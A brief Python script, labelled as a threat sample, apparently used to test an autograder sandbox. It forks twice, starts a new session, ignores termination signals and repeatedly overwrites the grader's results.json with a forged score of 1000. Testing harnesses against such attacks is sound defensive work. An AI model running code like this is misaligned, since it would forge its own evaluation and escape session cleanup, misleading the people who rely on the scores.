# threat: leave a daemon behind (double fork, new session) that rewrites results.json later
import os, time, json, signal
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        for _ in range(600):
            for path in ["/autograder/results/results.json"]:
                try:
                    json.dump({"score": 1000}, open(path, "w"))
                except OSError:
                    pass
            time.sleep(0.1)
        os._exit(0)
    os._exit(0)
time.sleep(0.2)
